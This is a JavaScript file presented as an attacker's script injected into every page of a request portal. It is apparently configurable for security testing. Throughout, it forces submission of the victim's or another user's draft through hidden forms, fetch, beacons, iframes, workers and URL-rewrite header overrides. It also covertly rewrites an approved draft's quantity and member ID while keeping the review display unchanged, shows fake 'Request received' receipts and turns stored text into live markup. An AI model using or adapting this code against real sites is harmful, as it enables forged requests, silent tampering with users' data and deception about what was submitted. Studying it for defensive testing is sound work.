// An attacker's script, which comes in every page of the portal with what it shall do.
(() => {
  // Else the frame that takes an answer would begin again by itself.
  if (window.top !== window) return;
  const orders = ORDERS;
  const has = kind => orders.kinds.includes(kind);
  const draftHere = () => location.pathname.match(/^\/drafts\/(\d+)\//)?.[1] ?? null;
  const finalOf = draft => orders.final.replace("{}", draft);
  const atReview = () => /\/(review|reply)$/.test(location.pathname);
  const done = new Set();
  let frames = 0;

  function own() {
    const message = location.pathname.match(/^\/requests\/[^/]+\/messages\/\d+(?=\/reply$)/);
    return message ? `${message[0]}/send` : draftHere() && finalOf(draftHere());
  }

  function other() {
    const found = orders.drafts.filter(draft => String(draft) !== draftHere());
    return found.length ? finalOf(found[0]) : null;
  }

  const token = () => document.querySelector("[name=form_token]")?.value ?? "";

  async function like() {
    if (!orders.json) return { method: "POST", body: new URLSearchParams({ form_token: token() }) };
    const { session } = await (await fetch("/api/session")).json();
    const headers = { "Content-Type": "application/json", "X-CSRF-Token": session?.csrfToken ?? "" };
    return { method: "POST", headers, body: JSON.stringify({ attested: true }) };
  }

  function formTo(address, target) {
    const form = document.createElement("form");
    Object.assign(form, { method: "post", action: address, target });
    const field = document.createElement("input");
    Object.assign(field, { type: "hidden", name: "form_token", value: token() });
    form.append(field);
    document.documentElement.append(form);
    HTMLFormElement.prototype.submit.call(form);
    form.remove();
  }

  function frame() {
    const made = document.createElement("iframe");
    Object.assign(made, { hidden: true, name: `sink${frames++}` });
    document.documentElement.append(made);
    return made;
  }

  const ways = {
    form: address => formTo(address, frame().name),
    fetch: async address => fetch(address, { ...await like(), keepalive: true }),
    xhr: async address => {
      const { method, headers, body } = await like(), request = new XMLHttpRequest();
      request.open(method, address);
      for (const [name, value] of Object.entries(headers ?? {})) request.setRequestHeader(name, value);
      request.send(body);
    },
    beacon: address => navigator.sendBeacon(address, new URLSearchParams({ form_token: token() })),
    iframe: address => {
      frame().srcdoc = `<form method="post" action="${address}"></form><script>document.forms[0].submit()<\/script>`;
    },
    tab: address => {
      // The new tab runs this script too; one is enough.
      if (localStorage.getItem(address)) return;
      localStorage.setItem(address, "sent");
      formTo(address, "_blank");
    },
    ping: address => {
      const link = document.createElement("a");
      Object.assign(link, { ping: address, href: "#pinged" });
      document.documentElement.append(link);
      link.click();
      link.remove();
    },
    service_worker: async address => tellWorker({ post: address, how: await sendable() }),
    shared_worker: async address => {
      new SharedWorker(orders.worker).port.postMessage({ post: address, how: await sendable() });
    },
    loop: address => setInterval(() => ways.fetch(address).catch(() => {}), 100),
  };

  async function sendable() {
    const how = await like();
    return { ...how, body: String(how.body), headers: how.headers ?? { "Content-Type": "application/x-www-form-urlencoded" } };
  }

  async function tellWorker(message) {
    const registration = await navigator.serviceWorker.register(orders.worker, { scope: "/" });
    const worker = registration.installing ?? registration.waiting ?? registration.active;
    worker.postMessage(message);
  }

  // Another spelling of the other's final request, for each front end that honours one.
  async function override(address) {
    const harmless = orders.json ? "/api/members/search" : "/members/search";
    const how = await like();
    const tries = [
      [harmless, { ...how, headers: { ...how.headers, "X-Original-URL": address } }],
      [harmless, { ...how, headers: { ...how.headers, "X-Rewrite-URL": address } }],
      [address, { headers: { ...how.headers, "X-HTTP-Method-Override": "POST" } }],
      [`${address}?_method=POST`, { headers: how.headers }],
    ];
    for (const [to, what] of tries) fetch(to, what).catch(() => {});
  }

  // What the service page sent is kept: a guard may refuse to read that page again.
  function keepService(event) {
    const form = event.target, draft = draftHere();
    if (form instanceof HTMLFormElement && draft && location.pathname.endsWith("/service")) {
      sessionStorage.setItem(`service of ${draft}`, new URLSearchParams(new FormData(form)).toString());
    }
  }

  async function readService(draft) {
    const page = await (await fetch(`/drafts/${draft}/service`)).text();
    const form = new DOMParser().parseFromString(page, "text/html").querySelector("form.box");
    return new URLSearchParams(new FormData(form)).toString();
  }

  // The approved draft with other units, or for another member.
  async function rewrite(draft) {
    const another = has("rewrite_member") ? "X00000000000" : null;
    if (orders.json) {
      const how = await like(), { service } = await (await fetch(`/api/drafts/${draft}`)).json();
      const body = { ...service, quantity: "9", ...(another && { memberId: another }) };
      await fetch(`/api/drafts/${draft}/service`, { ...how, method: "PUT", body: JSON.stringify(body) });
      return;
    }
    const entries = new URLSearchParams(sessionStorage.getItem(`service of ${draft}`) ?? await readService(draft));
    entries.set("units", "9");
    if (another) entries.set("member_id", another);
    await fetch(`/drafts/${draft}/service`, { method: "POST", body: entries, redirect: "manual" });
  }

  // The review goes on showing what it showed first.
  function mask() {
    const list = document.querySelector("dl.review"), draft = draftHere();
    if (!list || !draft || !atReview()) return false;
    const key = `review of ${draft}`, first = sessionStorage.getItem(key);
    if (first === null) sessionStorage.setItem(key, list.innerHTML);
    else if (list.innerHTML !== first) list.innerHTML = first;
    return true;
  }

  function pretendReceived() {
    const rows = document.querySelector("dl.review").innerHTML;
    const at = new Date().toISOString().replace(/\.\d+/, "");
    const number = orders.json ? ["Request number", "JR20269999999"] : ["Reference number", "LHP-2026-999999"];
    document.querySelector("main").innerHTML = `<h1>Request received</h1><dl class="request facts"><dt>${number[0]}</dt>
      <dd>${number[1]}</dd><dt>Received</dt><dd><time datetime="${at}">${at}</time></dd>${rows}</dl>`;
    history.replaceState({}, "", `/requests/${number[1]}/confirmation`);
  }

  function lie() {
    for (const term of document.querySelectorAll("dl.request dt")) {
      if (!/^(Reference|Request) number$/.test(term.textContent.trim())) continue;
      const value = term.nextElementSibling;
      if (!value.textContent.includes("999999")) value.textContent = orders.json ? "JR20269999999" : "LHP-2026-999999";
    }
  }

  // Shows what another user has stored as if it were markup.
  function unescape() {
    for (const each of document.querySelectorAll("dd, b, h2, td")) {
      if (!each.firstElementChild && each.textContent.includes("<")) each.innerHTML = each.textContent;
    }
  }

  // Buttons for a person who means ill.
  function doors() {
    const draft = draftHere(), theirs = other();
    if (document.getElementById("doors") || !draft || !theirs || !atReview()) return;
    const open = { other_draft: () => window.open(`/drafts/${orders.drafts[0]}/review`), submit_other: () => ways.form(theirs),
      back: () => history.back(),
      script: () => { location.href = `javascript:fetch(${JSON.stringify(theirs)},{method:"POST"});void 0`; } };
    const bar = document.createElement("div");
    Object.assign(bar, { id: "doors", style: "position:fixed;top:0;left:0;z-index:9999;display:flex" });
    for (const name of orders.doors) {
      const door = document.createElement("button");
      Object.assign(door, { type: "button", tabIndex: -1, textContent: name, onclick: () => open[name](), style: "width:120px;height:40px" });
      bar.append(door);
    }
    document.documentElement.append(bar);
  }

  function once(what, act) {
    if (done.has(what)) return;
    done.add(what);
    Promise.resolve().then(act).catch(() => {});
  }

  function send(moment) {
    for (const [way, go] of Object.entries(ways)) {
      const mine = own(), theirs = other();
      if (has(`own_${way}`) && mine && atReview()) once(`own ${way} ${mine} ${moment}`, () => go(mine));
      if (has(`other_${way}`) && theirs) once(`other ${way} ${theirs} ${moment}`, () => go(theirs));
    }
    if (has("overrides") && other()) once(`overrides ${moment}`, () => override(other()));
  }

  function tick() {
    send(draftHere() && atReview() ? `review ${draftHere()}` : "page");
    const draft = draftHere();
    if (["rewrite_once", "rewrite_loop", "rewrite_member"].some(has) && mask()) {
      if (has("rewrite_loop")) rewrite(draft).catch(() => {});
      else once(`rewrite ${draft}`, () => rewrite(draft));
    }
    if (has("lie_receipt")) lie();
    if (has("doors")) doors();
    if (has("stored_script")) unescape();
    if (has("tabs")) open("/requests");
    if (has("fake_worker")) once("fake worker", () => tellWorker({ fake: true }));
  }

  if (has("swap_draft") && orders.json) {
    const original = window.fetch;
    window.fetch = (to, how) => original(to === own() && other() ? other() : to, how);
  }

  // The moment that matters: the press itself.
  addEventListener("click", event => {
    if (!event.target.closest?.("button.final")) return;
    send("press");
    if (has("fake_received")) {
      event.preventDefault();
      event.stopImmediatePropagation();
      pretendReceived();
    }
  }, true);
  addEventListener("submit", keepService, true);
  addEventListener("DOMContentLoaded", () => { tick(); setInterval(tick, 100); });
})();
